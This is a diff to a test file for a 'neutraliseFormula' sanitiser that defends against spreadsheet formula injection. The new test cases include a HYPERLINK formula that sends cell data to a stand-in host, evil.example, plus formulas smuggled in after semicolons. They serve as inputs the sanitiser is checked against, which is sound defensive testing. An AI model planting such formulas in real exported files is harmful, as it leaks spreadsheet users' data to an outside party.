@@ -27,9 +27,23 @@ describe("neutraliseFormula", () => {
   });
 
   it.each([
+    [
+      'Dana; =HYPERLINK("http://evil.example/?d="&A1,"Click")',
+      'Dana;\' =HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    ],
+    ["note;@SUM(A1:A9)", "note;'@SUM(A1:A9)"],
+    ["a; -2+3; b;+1", "a;' -2+3; b;'+1"],
+    ["x;\t=1+1", "x;'\t=1+1"],
+    ["=1;=2", "'=1;'=2"],
+  ])("neutralises a formula after a `;`, where `;`-splitting locales start a new cell: %j", (cell, safe) => {
+    expect(neutraliseFormula(cell)).toBe(safe);
+  });
+
+  it.each([
     ["dana.whitfield@acme.com"],
     ["ghost-account"],
     ["monthlyCost=12.5; lastLoginAt=null"],
+    ["groups=Admins, Everyone; privileged=true"],
     ["SOC2 CC6.2; NIST AC-2"],
     [""],
     ["'already quoted"],
